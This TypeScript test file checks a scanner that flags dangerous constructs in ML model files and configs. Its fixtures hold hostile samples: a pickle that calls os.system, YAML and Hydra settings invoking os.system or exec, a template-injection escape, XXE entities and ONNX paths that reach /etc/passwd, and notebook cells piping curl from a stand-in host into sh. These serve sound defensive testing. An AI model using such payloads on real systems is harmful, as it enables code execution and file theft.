import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { tar as tarOf } from '../../../test/image.ts';
import { zip } from '../../../test/zip.ts';
import * as p from '../../formats/fixtures/pickle-bytes.ts';
import { LIMITS } from '../../limits.ts';
import type { Analyzer } from '../analyzer.ts';
import * as configuration from '../configuration/index.ts';
import { factsOf } from '../fixtures/analyze.ts';
import * as languages from '../languages/index.ts';
import * as models from './index.ts';

/** Somebody controls the image and wants a gate on risks green: each way that was tried, on the readers as the core asks them. */

const isAnalyzer = (value: unknown): value is Analyzer =>
  typeof value === 'object' && value !== null && ('read' in value || 'stream' in value);
const ALL = [models, languages, configuration].flatMap((room) => Object.values<unknown>(room).filter(isAnalyzer));

const said = (path: string, content: Buffer | string): string[] =>
  factsOf(ALL, path, Buffer.from(content)).flatMap((fact) =>
    fact.kind === 'risk' ? [`${fact.severity} ${fact.rule}`] : fact.kind === 'unknown' ? [`? ${fact.reason}`] : [],
  );

const storedZip = (files: Record<string, string | Buffer>): Buffer => zip(files, { stored: true });
const evil = p.join(p.proto(2), p.attack);
const PICKLE = 'CRITICAL pickle-calls-os-system';
const torch = storedZip({ 'archive/data.pkl': evil, 'archive/version': '3' });

const field = (number: number, body: Buffer | string): Buffer =>
  Buffer.concat([varint((number << 3) | 2), varint(Buffer.byteLength(body)), Buffer.from(body)]);
const int = (number: number, value: number): Buffer => Buffer.concat([varint(number << 3), varint(value)]);
function varint(value: number): Buffer {
  const bytes: number[] = [];
  for (let left = value; ; left >>>= 7) {
    bytes.push(left > 127 ? (left & 127) | 128 : left);
    if (left <= 127) return Buffer.from(bytes);
  }
}
const outside = Buffer.concat([
  field(8, 'w'),
  field(13, Buffer.concat([field(1, 'location'), field(2, '../../etc/passwd')])),
]);
const onnx = (graph: Buffer, ...more: Buffer[]): Buffer =>
  Buffer.concat([int(1, 8), field(2, 'pytorch'), field(7, graph), field(8, int(2, 17)), ...more]);

const ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
const ggufText = (text: string): Buffer => {
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(Buffer.byteLength(text)));
  return Buffer.concat([length, Buffer.from(text)]);
};
function gguf(pairs: readonly (readonly [string, string])[]): Buffer {
  const head = Buffer.from('GGUF\x03\0\0\0', 'latin1');
  const counts = Buffer.alloc(16);
  counts.writeBigUInt64LE(BigInt(pairs.length), 8);
  const text = Buffer.from([8, 0, 0, 0]);
  return Buffer.concat([head, counts, ...pairs.flatMap(([key, value]) => [ggufText(key), text, ggufText(value)])]);
}

function safetensors(metadata: Readonly<Record<string, string>>): Buffer {
  const json = JSON.stringify({ __metadata__: metadata, w: { dtype: 'F32', shape: [4], data_offsets: [0, 16] } });
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(Buffer.byteLength(json)));
  return Buffer.concat([length, Buffer.from(json), Buffer.alloc(16)]);
}

const lambda = JSON.stringify({
  class_name: 'Functional',
  config: { layers: [{ class_name: 'Lambda', config: { name: 'l', function: ['4wEAAA==', null, null] } }] },
});
const notebook = (source: string): string =>
  JSON.stringify({ nbformat: 4, cells: [{ cell_type: 'code', source: [source], outputs: [] }] });

describe('another name, another shape', () => {
  it.each<[string, string, Buffer]>([
    ['a PyTorch archive that calls itself a document', 'app/report.docx', torch],
    ['a PyTorch archive that calls itself a wheel', 'app/m.whl', torch],
    [
      'a pickle among the classes of a Java archive',
      'app/a.jar',
      storedZip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n', 'archive/data.pkl': evil }),
    ],
    ['a pickle before a zip', 'app/m.zip', Buffer.concat([evil, storedZip({ 'a.txt': 'hello' })])],
    ['a zip behind a program', 'app/m.llamafile', Buffer.concat([Buffer.from('MZqFpD'), Buffer.alloc(600), torch])],
    [
      'an archive of NumPy behind other bytes',
      'app/m.npz',
      Buffer.concat([Buffer.alloc(700, 1), storedZip({ 'a.pkl': evil })]),
    ],
    ['a compressed pickle within a zip', 'app/b.zip', storedZip({ 'm.pkl.gz': gzipSync(evil) })],
    [
      'a compressed archive of a model within a zip',
      'app/b.zip',
      storedZip({ 'model.tar.gz': gzipSync(tarOf({ 'm.pkl': evil })) }),
    ],
    ['a zip within a tar within a zip', 'app/x.zip', storedZip({ 'a.tar': tarOf({ 'b.pt': torch }) })],
  ])('%s is what it is', (_, path, bytes) => {
    expect(said(path, bytes)).toContain(PICKLE);
  });

  it('a format that nobody here reads is not assessed', () => {
    expect(said('app/m.engine', Buffer.concat([Buffer.from('ftrt'), Buffer.alloc(100)]))).toEqual([
      '? an engine of TensorRT: not read',
    ]);
    expect(said('app/model.rar', Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'))).toEqual(['? a RAR archive: not read']);
    expect(said('app/weka.model', Buffer.from('aced000573720011', 'hex'))).toEqual([
      '? a serialized Java object: not read',
    ]);
  });
});

describe('settings that name what is called', () => {
  it.each<[string, string, string, string]>([
    [
      'tags of Python in YAML',
      'app/conf.yaml',
      'a: !!python/object/apply:os.system ["id"]',
      'CRITICAL yaml-calls-dangerous',
    ],
    [
      'the same tag written out',
      'app/conf.yml',
      'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]',
      'CRITICAL yaml-calls-dangerous',
    ],
    [
      'another name for the tags',
      'app/conf.yml',
      '%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]',
      'HIGH yaml-renames-python-tags',
    ],
    [
      'the same tag with escapes that PyYAML undoes',
      'app/conf.yaml',
      'a: !!python%2fobject/apply:os%2esystem ["id"]',
      'CRITICAL yaml-calls-dangerous',
    ],
    [
      'a target in JSON with escapes',
      'app/m/config.json',
      '{"a": {"\\u005ftarget_": "os\\u002esystem"}}',
      'CRITICAL settings-call-dangerous',
    ],
    [
      'a module in JSON with escapes',
      'app/m/modules.json',
      '[{"idx": 0, "type": "os\\u002esystem"}]',
      'CRITICAL settings-import-dangerous',
    ],
    [
      'targets of Hydra',
      'app/conf.yaml',
      'model:\n  _target_: os.system\n  command: id\n',
      'CRITICAL settings-call-dangerous',
    ],
    [
      'targets of Hydra in JSON',
      'app/m/config.json',
      '{"a": {"_target_": "builtins.exec"}}',
      'CRITICAL settings-call-dangerous',
    ],
    [
      'modules of sentence-transformers',
      'app/m/modules.json',
      '[{"idx": 0, "path": "", "type": "os.system"}]',
      'CRITICAL settings-import-dangerous',
    ],
    [
      'a loader that MLflow imports',
      'app/m/MLmodel',
      'flavors:\n  python_function:\n    loader_module: evil\n    code: code\n',
      'HIGH model-brings-code',
    ],
    ['a Keras architecture in JSON', 'app/model.json', lambda, 'HIGH keras-lambda-code'],
    ['the same under another name, behind spaces', 'app/x.json', ` {${lambda.slice(1)}`, 'HIGH keras-lambda-code'],
  ])('%s', (_, path, text, risk) => {
    expect(said(path, text)).toContain(risk);
  });

  it('and within archives: NeMo, skops', () => {
    expect(said('app/m.nemo', tarOf({ 'model_config.yaml': '_target_: builtins.exec\n', 'w.ckpt': 'x' }))).toContain(
      'CRITICAL settings-call-dangerous',
    );
    expect(
      said('app/m.skops', storedZip({ 'schema.json': '{"__class__": "system", "__module__": "os", "content": {}}' })),
    ).toContain('CRITICAL settings-import-dangerous');
  });

  it('but not what honest ones say', () => {
    const hydra =
      'model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\nemoji: !!python/name:material.extensions.emoji.twemoji\n';
    expect(said('app/conf.yaml', hydra)).toEqual([]);
    expect(said('app/m/modules.json', '[{"type": "sentence_transformers.models.Transformer"}]')).toEqual([]);
    expect(said('app/MLmodel', 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n')).toEqual([]);
    expect(said('app/model_list.json', '{"class_name": ["a"], "config": 1}')).toEqual([]);
  });
});

describe('texts within models', () => {
  it('a pickle in the metadata of safetensors, in base64 and as it is', () => {
    expect(said('m.safetensors', safetensors({ format: 'pt', config: evil.toString('base64') }))).toEqual([PICKLE]);
    expect(said('m.safetensors', safetensors({ format: 'pt', config: evil.toString('latin1') }))).toEqual([PICKLE]);
    expect(said('m.safetensors', safetensors({ config: '{"_target_": "os.system"}' }))).toEqual([
      'CRITICAL settings-call-dangerous',
    ]);
    expect(said('m.safetensors', safetensors({ format: 'pt', sha: 'YWJjZGVmZ2hpamtsbW5vcA==' }))).toEqual([]);
  });

  it('a chat template behind ten thousand other pairs', () => {
    const many = Array.from({ length: 10_050 }, (_, index) => [`k${index}`, 'v'] as const);
    expect(said('m.gguf', gguf([...many, ['tokenizer.chat_template', ESCAPE]]))).toContain(
      'HIGH chat-template-injection',
    );
  });

  it('the hundred and first template of a tokenizer', () => {
    const list = Array.from({ length: 101 }, (_, index) => ({
      name: `t${index}`,
      template: index === 100 ? ESCAPE : 'hi',
    }));
    expect(said('m/tokenizer_config.json', JSON.stringify({ chat_template: list }))).toContain(
      'HIGH chat-template-injection',
    );
  });

  it('a GGUF and templates within a zip', () => {
    expect(said('m.zip', storedZip({ 'm.gguf': gguf([['tokenizer.chat_template', ESCAPE]]) }))).toContain(
      'HIGH chat-template-injection',
    );
    expect(said('m.zip', storedZip({ 'm/chat_template.jinja': ESCAPE }))).toContain('HIGH chat-template-injection');
  });
});

describe('graphs', () => {
  const sparse = field(15, field(1, outside));
  it.each<[string, Buffer]>([
    ['a sparse tensor', onnx(Buffer.concat([sparse, field(2, 'g')]))],
    [
      'an attribute that is a sparse tensor',
      onnx(field(1, Buffer.concat([field(4, 'Constant'), field(5, field(22, field(1, outside)))]))),
    ],
    ['the graph of a training', onnx(field(2, 'g'), field(20, field(1, field(5, outside))))],
    [
      'a tensor behind ten thousand others',
      onnx(
        Buffer.concat([
          ...Array.from({ length: 10_001 }, (_, index) =>
            field(5, field(13, Buffer.concat([field(1, 'location'), field(2, `w${index}`)]))),
          ),
          field(5, outside),
        ]),
      ),
    ],
  ])('ONNX: data outside the folder of the model, by %s', (_, bytes) => {
    expect(said('m.onnx', bytes)).toContain('HIGH onnx-external-data-escapes');
    expect(said('m.zip', storedZip({ 'm.onnx': bytes }))).toContain('HIGH onnx-external-data-escapes');
  });

  it('ONNX: Python behind fifty other operators', () => {
    const node = (operator: string): Buffer =>
      field(1, Buffer.concat([field(4, operator), field(7, 'ai.onnx.contrib')]));
    const many = Array.from({ length: 60 }, (_, index) => node(`Op${index}`));
    expect(said('m.onnx', onnx(Buffer.concat([...many, node('PyOp')])))).toContain('HIGH onnx-python-operator');
  });

  it('TensorFlow: a graph as text, and operations in a TFLite model', () => {
    expect(said('m/saved_model.pbtxt', 'node { name: "n" op: "WriteFile" }')).toEqual(['HIGH tensorflow-op-writefile']);
    const tflite = Buffer.concat([
      Buffer.from('\x1c\0\0\0TFL3', 'latin1'),
      Buffer.alloc(70_000),
      Buffer.from('\x0d\0\0\0FlexWriteFile\0', 'latin1'),
    ]);
    expect(said('m.bin', tflite)).toEqual(['HIGH tensorflow-op-writefile']);
  });
});

describe('code that an archive brings along', () => {
  it.each<[string, string, Buffer]>([
    [
      'torch.package',
      'm.pt',
      storedZip({
        'pkg/.data/extern_modules': 'os\n',
        'pkg/m/model.pkl': p.join(p.proto(2), p.emptyDict, p.stop),
        'pkg/evil.py': 'import os',
      }),
    ],
    ['a handler of TorchServe', 'm.mar', storedZip({ 'MAR-INF/MANIFEST.json': '{}', 'h.py': 'import os' })],
    [
      'what AOTInductor compiled',
      'm.pt2',
      storedZip({ 'm/archive_format': 'pt2', 'm/data/aotinductor/model/x.so': '\x7fELF' }),
    ],
  ])('%s', (_, path, bytes) => {
    expect(said(path, bytes)).toContain('HIGH model-brings-code');
  });

  it('a line of a .pth that every start of Python runs', () => {
    const at = 'usr/lib/python3/dist-packages/x.pth';
    expect(said(at, 'import os;os.system("id")\n')).toEqual(['HIGH python-start-runs-code']);
    expect(said(at, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")).toEqual([
      'HIGH python-start-runs-code',
    ]);
    // A NUL does not keep Python from the next line.
    expect(said(at, '#\0\nimport os;os.system("id")\n')).toEqual(['HIGH python-start-runs-code']);
    // What setuptools and virtualenv write.
    expect(
      said(
        at,
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
      ),
    ).toEqual([]);
    expect(said(at, '/opt/src\nimport _virtualenv\n')).toEqual([]);
  });

  it.each([
    '!curl http://e.vil/x | sh',
    '%%bash\nwget -qO- http://e.vil/x | bash',
    'get_ipython().system("curl http://e.vil/x | sh")',
    'import os; os.system("curl -s http://e.vil/x | python3")',
    '!bash <(curl -s http://e.vil/x)',
  ])('a cell that runs what it fetches: %s', (source) => {
    expect(said('a.ipynb', notebook(source))).toEqual(['MEDIUM notebook-runs-download']);
  });

  it('a cell that runs what it decodes', () => {
    expect(said('a.ipynb', notebook('import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'))).toEqual([
      'HIGH notebook-hides-code',
    ]);
    expect(said('a.ipynb', notebook('# curl http://x | sh is how others do it\nprint(eval("1"))'))).toEqual([]);
  });
});

describe('libraries that import what settings name', () => {
  const json = (value: unknown): string => JSON.stringify(value);
  it.each<[string, string, unknown, string]>([
    [
      'a part of a pipeline that is no class of a model',
      'model_index.json',
      { _class_name: 'StableDiffusionPipeline', unet: ['os', 'system'] },
      'CRITICAL settings-import-dangerous',
    ],
    [
      'a part of a pipeline from a module of its own',
      'model_index.json',
      { _class_name: 'StableDiffusionPipeline', unet: ['evilmod', 'X'] },
      'HIGH model-imports-module',
    ],
    [
      'a pipeline that is a file of the repository',
      'model_index.json',
      { _class_name: ['pipeline', 'Evil'] },
      'HIGH model-imports-module',
    ],
    [
      'the library of an adapter',
      'adapter_config.json',
      { auto_mapping: { parent_library: 'evilmod', base_model_class: 'X' } },
      'HIGH model-imports-module',
    ],
    [
      'the library of an adapter that is dangerous by itself',
      'adapter_config.json',
      { auto_mapping: { parent_library: 'os', base_model_class: 'system' } },
      'CRITICAL settings-import-dangerous',
    ],
    ['code of the repository, by leave', 'config.json', { auto_map: { AutoModel: 'm.M' } }, 'LOW model-remote-code'],
    [
      'code of another repository, by leave',
      'config.json',
      { auto_map: { AutoTokenizer: ['evil/repo--tok.T', null] } },
      'MEDIUM model-remote-code',
    ],
    [
      'a pipeline of the repository, by leave',
      'config.json',
      { custom_pipelines: { x: { impl: 'pipe.P' } } },
      'LOW model-remote-code',
    ],
  ])('%s', (_, name, value, risk) => {
    expect(said(`app/m/${name}`, json(value))).toContain(risk);
    expect(said('app/m.zip', storedZip({ [`m/${name}`]: json(value) }))).toContain(risk);
  });

  it('a key that is written with escapes', () => {
    expect(said('app/m/adapter_config.json', '{"auto\u005fmapping": {"parent_library": "evilmod"}}')).toEqual([
      'HIGH model-imports-module',
    ]);
  });

  it('but not what honest ones say', () => {
    const index = {
      _class_name: 'StableDiffusionPipeline',
      _diffusers_version: '0.30.0',
      feature_extractor: [null, null],
      safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
      scheduler: ['diffusers', 'PNDMScheduler'],
      text_encoder: ['transformers', 'CLIPTextModel'],
    };
    expect(said('app/m/model_index.json', json(index))).toEqual([]);
    const adapter = { peft_type: 'LORA', auto_mapping: null, base_model_name_or_path: 'gpt2' };
    expect(said('app/m/adapter_config.json', json(adapter))).toEqual([]);
    const mapped = {
      auto_mapping: { base_model_class: 'BertModel', parent_library: 'transformers.models.bert.modeling_bert' },
    };
    expect(said('app/m/adapter_config.json', json(mapped))).toEqual([]);
  });

  it.each([
    ['a module', 'flavors:\n  python_function:\n    loader_module: evil\n'],
    ['in one line', 'flavors:\n  python_function: {loader_module: evil, env: conda.yaml}\n'],
    ['in JSON', '{"flavors": {"python_function": {"loader_module": "evil"}}}'],
    ['a script', 'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: m.py\n'],
    ['a key that is an alias', 'x: &k loader_module\nflavors:\n  python_function:\n    *k : evil\n'],
    ['a flavour that is an alias', 'metadata: &f {python_function: {code: c}}\nflavors: *f\n'],
    ['a flavour that is merged in', 'x: &f {code: c}\nflavors:\n  python_function:\n    <<: *f\n'],
    ['the second of two keys', 'flavors: {python_function: {loader_module: mlflow.sklearn, loader_module: evil}}\n'],
    ['the first of two documents', 'flavors: {python_function: {loader_module: evil}}\n---\na: 1\n'],
    ['a value in many lines', `flavors:\n  python_function:\n    code:${'\n'.repeat(3000)}      c\n`],
    ['a class of a module of its own', 'flavors: {xgboost: {model_class: evil.Model}}\n'],
    ['a Keras of its own', 'flavors: {tensorflow: {keras_module: evil}}\n'],
    ['a folder that comes first', 'flavors:\n  python_function:\n    code: code\n    loader_module: mlflow.sklearn\n'],
  ])('MLflow: %s', (_, text) => {
    expect(said('app/m/MLmodel', text)).toEqual(['HIGH model-brings-code']);
  });

  it('MLflow: in archives, in UTF-16, and beside its own file', () => {
    const text = 'flavors:\n  python_function:\n    code: c\n';
    expect(
      said('m.zip', storedZip({ 'm/MLmodel': text, 'm/model.pkl': p.join(p.proto(2), p.emptyDict, p.stop) })),
    ).toContain('HIGH model-brings-code');
    expect(said('app/m/MLmodel', Buffer.from(`\ufeff${text}`, 'utf16le'))).toEqual(['HIGH model-brings-code']);
    expect(said('app/m/data/keras_module.txt', 'evil\n')).toEqual(['HIGH model-brings-code']);
    expect(said('app/m/data/keras_module.txt', 'tensorflow.keras')).toEqual([]);
    expect(said('app/m/data/pickle_module_info.txt', 'evil')).toEqual(['HIGH model-brings-code']);
    expect(said('app/m/data/pickle_module_info.txt', 'mlflow.pytorch.pickle_module')).toEqual([]);
  });

  it('MLflow: what cannot be read is not assessed', () => {
    expect(said('app/m/MLmodel', 'flavors: [a')[0]).toMatch(/^\? MLmodel: /);
    expect(said('app/m/MLmodel', `a: ${'['.repeat(5_000)}`)[0]).toMatch(/^\? MLmodel: /);
    const bomb = Array.from({ length: 30 }, (_, index) => `a${index + 1}: &a${index + 1} [*a${index}, *a${index}]`);
    expect(said('app/m/MLmodel', `a0: &a0 x\n${bomb.join('\n')}\n`)[0]).toMatch(/^\? MLmodel: /);
  });

  it('MLflow: what it writes itself', () => {
    const text =
      'flavors:\n  python_function:\n    env: {conda: conda.yaml}\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n';
    expect(said('app/m/MLmodel', text)).toEqual([]);
  });
});

it('a target in the configuration of an archive, which may be of Keras as well', () => {
  expect(said('m.zip', storedZip({ 'config.json': '{"_target_": "os.system"}' }))).toEqual([
    'CRITICAL settings-call-dangerous',
  ]);
});

describe('other formats', () => {
  const program = (operator: string): Buffer =>
    field(1, Buffer.concat([int(1, 0), field(4, Buffer.concat([field(1, field(1, 'X')), field(3, operator)]))]));
  it.each([
    ['py_func', 'HIGH paddle-op-py-func'],
    ['save_combine', 'HIGH paddle-op-save-combine'],
    ['load', 'HIGH paddle-op-load'],
  ])('Paddle: an operator %s', (operator, risk) => {
    expect(said('m/inference.pdmodel', program(operator))).toEqual([risk]);
    expect(said('m/__model__', program(operator))).toEqual([risk]);
  });
  it('Paddle: honest operators, a broken program, and another file of that name', () => {
    expect(said('m/inference.pdmodel', program('conv2d'))).toEqual([]);
    expect(said('m/inference.pdmodel', program('py_func').subarray(0, 12))[0]).toMatch(/^\? not a sound program/);
    expect(said('m/__model__', 'hello')).toEqual([]);
  });
  const pir = (operator: string): string =>
    `{"base_code":{"magic":"pir","trainable":true,"version":4},"program":{"regions":[{"#":"region_0","blocks":[{"#":"block_0","args":[],"ops":[{"#":"${operator}","A":[],"I":[],"O":[]}]}]}]}}`;
  it.each([
    ['1.read_file', 'HIGH paddle-op-read-file'],
    ['1.save_combine', 'HIGH paddle-op-save-combine'],
    ['pd_op.load_combine', 'HIGH paddle-op-load-combine'],
    ['1.recv_v2_', 'HIGH paddle-op-recv'],
    ['3.py_func_', 'HIGH paddle-op-py-func'],
    ['1.read\\u005ffile', 'HIGH paddle-op-read-file'],
  ])('Paddle 3: an operator %s', (operator, risk) => {
    expect(said('m/inference.json', pir(operator))).toEqual([risk]);
    expect(said('m/x.json', pir(operator).replace('{', `{${' '.repeat(2000)}`))).toEqual([risk]);
  });
  it('Paddle 3: honest operators', () => {
    for (const operator of ['1.matmul', '1.add', '1.send_u_recv', '0.t_dtensor', 'p'])
      expect(said('m/inference.json', pir(operator))).toEqual([]);
    expect(said('m/x.json', '{"magic": 1, "#": "1.read_file"}')).toEqual([]);
  });
  it('Paddle: parameters are the pickles that they are', () => {
    expect(said('m/m.pdparams', evil)).toEqual([PICKLE]);
  });

  const layer = field(1, Buffer.concat([field(1, 'l'), field(500, field(10, 'EvilLayer'))]));
  it.each([
    ['a layer', field(500, layer)],
    ['a layer of a classifier', field(403, layer)],
    ['a layer in a pipeline that classifies', field(200, field(1, field(1, field(500, layer))))],
    ['a model', field(555, field(10, 'EvilLayer'))],
  ])('Core ML: %s that the application has to bring', (_, body) => {
    expect(said('m.mlmodel', Buffer.concat([int(1, 3), body]))).toEqual(['LOW core-ml-custom-class']);
  });

  it.each([
    ['PDF', '%PDF-1.4\n%%EOF\n'],
    ['PNG', '\x89PNG\r\n\x1a\n'],
    ['JPEG', '\xff\xd8\xff\xe0\0\x10JFIF'],
    ['GIF', 'GIF89a'],
    ['a film', '\0\0\0\x18ftypmp42'],
    ['a script', '#!/bin/sh\nexit\n'],
  ])('a zip behind the head of %s is not assessed', (_, head) => {
    const bytes = Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(400_000), torch]);
    expect(said('app/logo.bin', bytes)).toEqual([
      '? a zip archive behind another head, with archive/data.pkl: not read',
    ]);
    const program = Buffer.concat([Buffer.from(head, 'latin1'), storedZip({ '__main__.py': 'print(1)' })]);
    expect(said('app/logo.bin', program)).toEqual([]);
  });
  it.each(['app/m.pth', 'usr/lib/x/m.bin', 'app/weights', 'srv/picture.svg', 'usr/share/m/noise'])(
    'nor one behind anything, under the name of a model or where no programs are installed: %s',
    (path) => {
      for (const head of [Buffer.alloc(600, 7), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), evil])
        expect(said(path, Buffer.concat([head, Buffer.alloc(600), torch])).join()).toMatch(/a zip archive behind/);
    },
  );
  it.each(['app/m.nemo', 'app/m.tar'])(
    'a zip that is the last member of a tar is read, and one behind its end is not assessed: %s',
    (path) => {
      const nemo = tarOf({ './model_config.yaml': 'nemo_version: 1.20.0\n', './model_weights.ckpt': torch });
      expect(said(path, nemo)).toContain(PICKLE);
      expect(said(path, nemo).join()).not.toContain('behind another head');
      expect(said(path, Buffer.concat([nemo, torch, Buffer.alloc(2_000)]))).toContain(
        '? a zip archive behind another head, with archive/data.pkl: not read',
      );
    },
  );
  it('a model of NeMo is a component, packed or not', () => {
    const nemo = tarOf({ 'model_config.yaml': 'nemo_version: 1.20.0\n' });
    for (const bytes of [nemo, gzipSync(nemo)])
      expect(factsOf(ALL, 'app/m.nemo', bytes)).toEqual([
        expect.objectContaining({ name: 'app/m.nemo', properties: { kind: 'machine-learning-model', format: 'nemo' } }),
      ]);
  });
  it('nor one that holds nothing but weights', () => {
    const weights = storedZip({ 'm/pytorch_model.bin': evil });
    expect(said('app/logo.png', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), weights]))).toEqual([
      '? a zip archive behind another head, with m/pytorch_model.bin: not read',
    ]);
  });

  it.each([
    ['gzip', gzipSync(Buffer.from('X\n\0\0\0\x03\0\x04\x02\0', 'latin1'))],
    ['nothing', Buffer.from('X\n\0\0\0\x03\0\x04\x02\0', 'latin1')],
    ['gzip, of several objects', gzipSync(Buffer.from('RDX3\nX\n\0\0\0\x03', 'latin1'))],
    ['nothing, as text', Buffer.from('RDA3\nA\n3\n262146\n')],
  ])("R's objects, compressed with %s, are not assessed, but those of its library", (_, bytes) => {
    expect(said('app/model.rds', bytes)).toEqual(['? a serialized R object: the object is cut short']);
    expect(said('usr/lib/R/library/stats/Meta/package.rds', bytes)).toEqual([]);
  });

  it('a document type of PMML that leads elsewhere', () => {
    const pmml = (head: string): string => `<?xml version="1.0"?>${head}<PMML version="4.4"/>`;
    expect(said('m.pmml', pmml('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'))).toEqual([
      'HIGH pmml-external-entity',
    ]);
    expect(said('m.pmml', pmml('<!DOCTYPE x [<!ENTITY % e PUBLIC "a" "http://e.vil/">]>'))).toEqual([
      'HIGH pmml-external-entity',
    ]);
    expect(said('m.pmml', pmml(''))).toEqual([]);
    expect(said('m.pmml', pmml('<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'))).toEqual(
      [],
    );
  });
  it.each([
    ['many blanks', `<!DOCTYPE x [<!ENTITY${' '.repeat(5000)}e${'\n'.repeat(5000)}SYSTEM "file:///etc/passwd">]>`],
    ['a document type elsewhere', '<!DOCTYPE PMML SYSTEM "http://e.vil/x.dtd">'],
    ['entities within entities', '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'],
  ])('PMML: %s', (_, head) => {
    const text = `<?xml version="1.0"?>${head}<PMML version="4.4"/>`;
    for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`, 'utf16le')])
      expect(said('m.pmml', bytes)).toEqual(['HIGH pmml-external-entity']);
  });
  it('PMML in an encoding in which none of it would be seen', () => {
    expect(said('m.pmml', '<?xml version="1.0" encoding="UTF-7"?>+ADw-PMML/>')).toEqual(['HIGH pmml-external-entity']);
    expect(said('m.pmml', Buffer.from('4c6fa7949340', 'hex'))).toEqual(['? no PMML in an encoding that is read']);
  });

  const node = (operation: string, ...attributes: Buffer[]): Buffer =>
    Buffer.concat([
      int(1, 1),
      field(2, field(2, field(1, Buffer.concat([field(1, 'n'), field(2, operation), ...attributes])))),
    ]);
  const attribute = (key: string, value: Buffer): Buffer => field(5, Buffer.concat([field(1, key), field(2, value)]));
  const toFile = attribute('output_stream', field(2, 'file:///root/.bashrc'));
  it.each<[string, Buffer, string]>([
    ['prints into a file', node('PrintV2', toFile), 'HIGH tensorflow-op-printv2'],
    [
      'tells a debugger elsewhere',
      node('DebugIdentityV2', attribute('debug_urls', field(1, field(2, 'grpc://e.vil:1')))),
      'HIGH tensorflow-op-debugidentityv2',
    ],
    ['asks a service of data', node('DataServiceDatasetV4'), 'HIGH tensorflow-op-dataservicedatasetv4'],
  ])('TensorFlow: a graph that %s', (_, bytes, risk) => {
    expect(said('m/saved_model.pb', bytes)).toEqual([risk]);
  });
  it('TensorFlow: one that prints to the terminal is like others', () => {
    expect(said('m/saved_model.pb', node('PrintV2', attribute('output_stream', field(2, 'stderr'))))).toEqual([]);
  });

  it.each(['m.onnxjson', 'm.onnxtxt', 'm.onnxtext'])('ONNX as text is not assessed: %s', (path) => {
    expect(said(path, 'graph { initializer { external_data { key: "location" value: "/etc/passwd" } } }')).toEqual([
      '? an ONNX model as text: not read',
    ]);
  });
  it("ONNX Runtime's own format is not assessed", () => {
    expect(said('m.ort', Buffer.from(`\x18\0\0\0ORTM${'\0'.repeat(64)}`, 'latin1'))).toEqual([
      "? a model in ONNX Runtime's own format: not read",
    ]);
  });

  it.each(["{% include '/etc/passwd' %}", "{%- import '../evil' as e %}", '{% extends x %}'])(
    'a chat template that reads another file: %s',
    (template) => {
      expect(said('m.gguf', gguf([['tokenizer.chat_template', template]]))).toEqual(['HIGH chat-template-injection']);
    },
  );
});

describe('a Keras configuration beyond what is read', () => {
  const padding = (count: number): string => '{},'.repeat(count);
  it('of more objects than are looked at, with the code behind them, is said to be unread', () => {
    // Objects are looked at from the last to the first.
    const config = `{"class_name":"Functional","config":{"layers":[${lambda},${padding(LIMITS.kerasObjects)}{}]}}`;
    expect(said('app/model.json', config)).toEqual(['MEDIUM keras-config-unread']);
  });
  it('of more than any document of JSON may have is not taken into memory, and is said to be unread', () => {
    const config = `{"class_name":"Functional","config":{"layers":[${lambda},${padding(LIMITS.jsonSigns)}{}]}}`;
    expect(said('app/model.json', config)).toEqual(['MEDIUM keras-config-unread']);
  });
  it('of just as many is read', () => {
    const config = `{"class_name":"Functional","config":{"layers":[${lambda},${padding(50_000)}{}]}}`;
    expect(said('app/model.json', config)).toContain('HIGH keras-lambda-code');
  });
});

/** As OmegaConf reads it. */
const value = (name: string): string => `\${${name}}`;

describe('other ways of writing the same', () => {
  it.each<[string, string, string, string]>([
    [
      'a number of Python only',
      'model_index.json',
      '{"a": [-Infinity, NaN], "_class_name": ["evilmod", "X"]}',
      'HIGH model-imports-module',
    ],
    [
      'the same among the settings of an adapter',
      'adapter_config.json',
      '{"auto_mapping": {"parent_library": "evilmod"}, "x": NaN}',
      'HIGH model-imports-module',
    ],
    [
      'the same beside code by leave',
      'config.json',
      '{"eps": Infinity, "auto_map": {"AutoModel": "m.M"}}',
      'LOW model-remote-code',
    ],
    ['what is no JSON at all', 'config.json', '{"auto_map": {"AutoModel": "m.M"},}', '? config.json: no JSON'],
    [
      'the whole of the tags',
      'a.yaml',
      '%TAG ! tag:yaml.org,2002:\n---\na: !python/object/apply:os.system [id]\n',
      'HIGH yaml-renames-python-tags',
    ],
    [
      'half a word of the tags',
      'a.yaml',
      '%TAG !e! tag:yaml.org,2002:py\n---\na: !e!thon/object/apply:os.system [id]\n',
      'HIGH yaml-renames-python-tags',
    ],
    [
      'less than that',
      'a.yaml',
      '%TAG !e! tag:\n---\na: !e!yaml.org,2002:python/name:os.system\n',
      'HIGH yaml-renames-python-tags',
    ],
    [
      'a prefix behind blanks',
      'a.yaml',
      `%TAG !${' '.repeat(5000)}tag:yaml.org,2002:python/\n---\na: 1\n`,
      'HIGH yaml-renames-python-tags',
    ],
